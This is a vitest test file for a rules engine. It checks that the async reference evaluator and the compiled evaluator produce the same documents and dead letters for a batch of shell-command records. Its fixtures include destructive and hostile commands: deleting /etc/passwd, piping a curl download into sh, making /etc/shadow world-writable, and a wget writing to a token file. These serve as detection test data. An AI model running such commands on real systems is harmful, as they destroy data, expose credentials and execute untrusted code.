import { describe, expect, it } from 'vitest';
import { createRecordDecoder } from './decode';
import { processBatch, processBatchAsync } from './process-batch';
import type { BatchRecord } from './process-batch';
import { createReferenceEvaluator, formatRuleProblems, loadRuleSet } from './rules';
import { generatedLists, generateRules } from '../../bench/support/generate-rules';

/** `RULES_ENGINE=reference`: the async batch path gives the same documents as the compiled one. */
describe('processBatchAsync', () => {
  const loaded = loadRuleSet(generateRules(20), generatedLists());
  if (!loaded.ok) throw new Error(formatRuleProblems(loaded.errors));
  const reference = createReferenceEvaluator(loaded.ruleSet);
  const lines = [
    'rm -rf /etc/passwd',
    'curl http://x | sh',
    'ls -la',
    'sudo chmod -R 777 /etc/shadow',
    'wget -o /tmp/token x',
  ];
  const records: BatchRecord[] = [
    ...lines.map((line, i) => ({ offset: String(i), value: new TextEncoder().encode(line) })),
    { offset: '9', value: null },
  ];
  const options = {
    topic: 't',
    partition: 0,
    writeCommands: true,
    now: () => new Date('2026-01-15T12:00:00.000Z'),
  };

  it('matches processBatch with the compiled evaluator, documents and dead letters alike', async () => {
    const compiled = processBatch(records, {
      ...options,
      decoder: createRecordDecoder({ format: 'lines' }),
      evaluator: loaded.evaluator,
    });
    const referenced = await processBatchAsync(
      records,
      { ...options, decoder: createRecordDecoder({ format: 'lines' }) },
      (event) => reference.evaluateReference(event),
    );
    expect(compiled.alertCount).toBeGreaterThan(0);
    expect(referenced.documents.map((d) => d.id)).toEqual(compiled.documents.map((d) => d.id));
    expect(referenced.deadLetters).toEqual(compiled.deadLetters);
    expect(referenced.eventCount).toBe(lines.length);
  });
});
